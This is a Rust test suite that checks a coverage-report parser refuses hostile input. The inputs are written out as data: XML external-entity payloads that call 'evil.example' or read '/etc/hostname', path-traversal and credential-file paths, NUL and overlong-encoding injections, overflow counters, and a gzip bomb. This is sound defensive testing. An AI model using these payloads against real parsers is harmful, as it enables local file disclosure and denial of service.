//! What a report may not do to its reader: each demand that a golden case does not hold has its test here.

use std::fmt::Write as _;
use std::process::Command;

use serde_json::json;
use tests::case::bench::Bench;
use tests::case::protocol;

use super::{act, bench, reason, verdict};

/// A report of one class.
fn class(path: &str, attributes: &str) -> String {
    format!(
        r#"<coverage><packages><package name="p"><classes><class name="A" filename="{path}"><lines><line number="1" hits="1" {attributes}/></lines></class></classes></package></packages></coverage>"#
    )
}

fn record(path: &str, records: &str) -> String {
    format!("SF:{path}\n{records}end_of_record\n")
}

/// Exit code, and how the report's data look: the code of what broke it, or `read`.
fn read(report: impl AsRef<[u8]>) -> (Option<i32>, String) {
    let bench = bench();
    bench.write("report", report).unwrap();
    let outcome = act(&bench, r#"{"files": "report", "min-line": "80"}"#);
    let facts: serde_json::Value = serde_json::from_slice(&outcome.facts.unwrap()).unwrap();
    let broken = facts["reports"][0]["broken"]["code"].as_str().unwrap_or("read").to_owned();
    (outcome.exit, broken)
}

fn refused(code: &str) -> (Option<i32>, String) {
    (Some(4), code.to_owned())
}

fn accepted() -> (Option<i32>, String) {
    (Some(0), "read".to_owned())
}

fn utf16(text: &str) -> Vec<u8> {
    format!("\u{feff}{text}").encode_utf16().flat_map(u16::to_be_bytes).collect()
}

#[test]
fn an_entity_is_refused_in_whatever_encoding_it_comes() {
    for subset in [
        r#"[<!ENTITY a "b">]"#,
        r#"[<!ENTITY % a SYSTEM "http://evil.example/a.dtd">%a;]"#,
        r#"SYSTEM "a.dtd" [<!ENTITY a SYSTEM "file:///etc/hostname">]"#,
    ] {
        let text = format!("<?xml version=\"1.0\"?><!DOCTYPE coverage {subset}>{}", class("src/a.py", ""));
        assert_eq!(read(&text), refused("entity"), "{text}");
        assert_eq!(read(utf16(&text)), refused("entity"), "{text}");
    }
}

#[test]
fn of_attributes_64_are_read_and_no_more() {
    let many = |count| (1..=count).map(|number| format!("a{number}=\"1\" ")).collect::<String>();
    // Number and hits are two; the second way goes by the parser instead of the short cut.
    for quoted in [|text: String| text, |text: String| text.replace('"', "'")] {
        assert_eq!(read(class("src/a.py", &quoted(many(62)))), accepted());
        assert_eq!(read(class("src/a.py", &quoted(many(63)))), refused("too-large"));
    }
}

#[test]
fn of_a_name_4_kib_are_read_and_no_more() {
    let path = |length: usize| format!("{}.py", "x".repeat(length - 3));
    let go = |name: &str| format!("mode: set\n{name}:1.1,1.2 1 1\n");
    let json = |name: &str| format!(r#"{{"coverage": {{"{name}": {{"1": 1}}}}}}"#);
    for write in [|name: &str| record(name, "DA:1,1\n"), |name: &str| class(name, ""), go, json] {
        assert_eq!(read(write(&path(4096))), accepted());
        let (exit, code) = read(write(&path(4097)));
        assert_eq!(exit, Some(4), "{code}");
    }
    let element = class("src/a.py", "").replace("package", &"p".repeat(4097));
    assert_eq!(read(element).0, Some(4));
}

#[test]
fn counters_of_every_format_saturate_and_never_wrap() {
    for number in ["4294967296", "18446744073709551616", "99999999999999999999999999", "1e+300"] {
        let clover = format!(
            r#"<coverage generated="1" clover="4.4.1"><project timestamp="1"><file name="a.py" path="src/a.py"><line num="1" count="{number}" type="stmt"/></file></project></coverage>"#
        );
        let go = format!("mode: count\nsrc/a.go:1.1,1.2 1 {number}\nsrc/a.go:1.1,1.2 1 {number}\n");
        let json = format!(r#"{{"coverage": {{"src/a.py": {{"1": {number}}}}}}}"#);
        let lcov = record("src/a.py", &format!("DA:1,{number}\n").repeat(3));
        for report in
            [class("src/a.py", "").replace("hits=\"1\"", &format!("hits=\"{number}\"")), clover, go, json, lcov]
        {
            let found = read(&report);
            // Either the line ran, or the number is none of the format: it is never small or negative.
            assert!(found == accepted() || found == refused("malformed"), "{found:?}: {report}");
        }
    }
    // Counts that are written in the report's sums do not overflow either: there are fewer lines than that, and some are lost.
    let jacoco = r#"<report name="x"><package name="p"><sourcefile name="A.java"><line nr="1" mi="0" ci="1"/><counter type="LINE" missed="18446744073709551615" covered="18446744073709551615"/></sourcefile></package></report>"#;
    assert_eq!(read(jacoco), (Some(3), "read".to_owned()));
}

#[test]
fn encodings_that_are_declared_are_read_and_others_refused() {
    let declared =
        |name: &str| format!("<?xml version=\"1.0\" encoding=\"{name}\"?>{}", class("src/größe.py", ""));
    let latin1 = |text: &str| {
        text.chars().map(|character| u8::try_from(u32::from(character)).unwrap()).collect::<Vec<_>>()
    };
    for good in [declared("UTF-8").into_bytes(), utf16(&declared("UTF-16")), latin1(&declared("ISO-8859-1"))] {
        let bench = bench();
        bench.write("report", good).unwrap();
        let outcome = act(&bench, r#"{"files": "report", "min-line": "80"}"#);
        assert_eq!(outcome.exit, Some(0), "{}", outcome.log);
        let facts: serde_json::Value = serde_json::from_slice(&outcome.facts.unwrap()).unwrap();
        assert_eq!(facts["files"][0]["path"], "src/größe.py");
    }
    // The bytes are not what the declaration says, or nobody reads what it says.
    assert_eq!(read(latin1(&declared("UTF-8"))), refused("encoding"));
    for name in ["UTF-7", "EBCDIC-CP-US", "windows-1252", "none"] {
        assert_eq!(read(declared(name)), refused("encoding"), "{name}");
    }
    let mut half = utf16(&declared("UTF-16"));
    half.pop();
    assert_eq!(read(half), refused("encoding"));
    assert_eq!(
        read([b"SF:src/gr\xF6\xDFe.py\n".as_slice(), b"DA:1,1\nend_of_record\n"].concat()),
        refused("encoding")
    );
    // `..` in bytes that no encoder writes.
    assert_eq!(read(b"SF:src/\xC0\xAE\xC0\xAE/a.py\nDA:1,1\nend_of_record\n"), refused("encoding"));
}

#[test]
fn a_nul_in_a_path_or_a_number_is_refused() {
    for report in [
        record("src/a.py\0", "DA:1,1\n"),
        record("src/a.py\0.txt", "DA:1,1\n"),
        record("src/a.py", "DA:1,1\0\n"),
        class("src/a.py\0", ""),
        class("src/a.py&#0;", ""),
        class("src/a.py&#x0;", ""),
        r#"{"coverage": {"src/a.py\u0000": {"1": 1}}}"#.to_owned(),
        "{\"coverage\": {\"src/a.py\0\": {\"1\": 1}}}".to_owned(),
        "mode: set\nsrc/a\0.go:1.1,1.2 1 1\n".to_owned(),
        format!("{}\0\0\0\0", record("src/a.py", "DA:1,1\n")),
    ] {
        assert_eq!(read(&report).0, Some(4), "{report:?}");
    }
}

/// A repository that tracks `src/a.py`.
fn tracked() -> Bench {
    let bench = bench();
    bench.write("src/a.py", "x\n").unwrap();
    for args in [&["init", "-q"][..], &["add", "."]] {
        let mut git = Command::new("git");
        git.env_remove("GIT_DIR").env_remove("GIT_WORK_TREE").env_remove("GIT_INDEX_FILE");
        assert!(git.current_dir(bench.workspace()).args(args).status().unwrap().success());
    }
    bench
}

#[test]
fn a_path_out_of_the_checkout_is_nobodys_file_and_is_not_opened() {
    for path in [
        "../secret",
        "src/../../secret",
        r"..\..\secret",
        "/etc/hostname",
        r"C:\Windows\win.ini",
        r"\\server\share\secret",
        "file:///etc/hostname",
        "https://evil.example/secret",
        ".git/config",
    ] {
        let bench = tracked();
        std::fs::write(bench.path("secret"), "s3cr3t\n").unwrap();
        bench.write("report", record(path, "DA:1,0\nDA:2,0\n")).unwrap();
        let outcome = act(&bench, r#"{"files": "report", "min-line": "80", "sources": "**"}"#);
        assert_eq!(reason(&outcome, "paths-mapped"), "nothing-mapped", "{}", outcome.log);
        assert_ne!(outcome.exit, Some(0), "{}", outcome.log);
        let facts = String::from_utf8(outcome.facts.clone().unwrap()).unwrap();
        let all = [outcome.log.as_str(), &outcome.summary, &verdict(&outcome).to_string(), &facts].concat();
        assert!(!all.contains("s3cr3t"), "{all}");
        for command in protocol::commands(&outcome.log) {
            assert_eq!(command.properties.get("file"), None, "{}", outcome.log);
        }
    }
}

#[test]
fn a_path_that_leaves_its_folder_is_doubtful_even_if_it_comes_back() {
    let bench = tracked();
    bench.write("report", record("src/../../shop/src/a.py", "DA:1,1\n")).unwrap();
    let outcome = act(&bench, r#"{"files": "report", "min-line": "80", "fail-on": "warn"}"#);
    assert_eq!(outcome.exit, Some(1), "{}", outcome.log);
    assert_eq!(reason(&outcome, "reports-sound"), "reports-doubtful");
}

/// What takes memory is held by the system: a run that asks for more than this dies.
#[cfg(target_os = "linux")]
mod memory {
    use super::*;

    /// Kibibytes of address space. The program itself takes less than half.
    const ROOM: &str = "65536";

    fn act_in_little_room(bench: &Bench) -> tests::case::bench::Outcome {
        let action = bench.action(&json!({"files": "report", "min-line": "80"}).to_string()).unwrap();
        let mut limited = Command::new("bash");
        limited.args(["-c", &format!("ulimit -v {ROOM} && exec \"$0\" \"$@\"")]);
        limited.arg(action.get_program()).args(action.get_args());
        limited.current_dir(action.get_current_dir().unwrap());
        for (name, value) in action.get_envs() {
            match value {
                Some(value) => limited.env(name, value),
                None => limited.env_remove(name),
            };
        }
        bench.run(&mut limited).unwrap()
    }

    #[test]
    fn a_high_line_number_takes_no_room() {
        let bench = bench();
        let files = (0..2000).fold(String::new(), |mut report, file| {
            write!(report, "SF:src/{file}.py\nDA:1,1\nDA:10000000,1\nend_of_record\n").unwrap();
            report
        });
        bench.write("report", files).unwrap();
        let outcome = act_in_little_room(&bench);
        assert_eq!(outcome.exit, Some(0), "{} {}", outcome.log, outcome.errors);
        assert_eq!(verdict(&outcome)["rules"][0]["observed"], json!({"covered": 4000, "total": 4000}));
        for number in ["10000001", "4294967295", "4294967296", "18446744073709551615"] {
            bench.write("report", record("src/a.py", &format!("DA:{number},1\n"))).unwrap();
            let outcome = act_in_little_room(&bench);
            assert_eq!(outcome.exit, Some(4), "{} {}", outcome.log, outcome.errors);
            assert_eq!(reason(&outcome, "reports-readable"), "report-broken");
        }
    }

    #[test]
    fn a_bomb_takes_no_room() {
        let bench = bench();
        let bomb = include_bytes!("../cases/coverage-gate/hostile-gzip-bomb/workspace/coverage.info.gz");
        bench.write("report", bomb).unwrap();
        let outcome = act_in_little_room(&bench);
        assert_eq!(outcome.exit, Some(4), "{} {}", outcome.log, outcome.errors);
        assert!(outcome.log.contains("200 times its size"), "{}", outcome.log);
    }

    #[test]
    fn an_archive_within_an_archive_is_not_opened() {
        let bench = bench();
        bench.write("report", record("src/a.py", "DA:1,1\n")).unwrap();
        let pack = || {
            let packed = Command::new("gzip").arg("-c").arg(bench.workspace().join("report")).output().unwrap();
            assert!(packed.status.success());
            bench.write("report", packed.stdout).unwrap();
        };
        pack();
        assert_eq!(act_in_little_room(&bench).exit, Some(0));
        pack();
        let outcome = act_in_little_room(&bench);
        assert_eq!(outcome.exit, Some(4), "{} {}", outcome.log, outcome.errors);
        assert!(outcome.log.contains("a gzip archive within an archive"), "{}", outcome.log);
    }

    #[test]
    fn elements_without_end_take_no_room() {
        for part in ["<a>", "<a b=\"", "<!--", "text"] {
            let bench = bench();
            let more_than_there_is_room = (80 << 20) / part.len();
            bench.write("report", format!("<coverage>{}", part.repeat(more_than_there_is_room))).unwrap();
            let outcome = act_in_little_room(&bench);
            assert_eq!(outcome.exit, Some(4), "{} {}", outcome.log, outcome.errors);
        }
    }
}
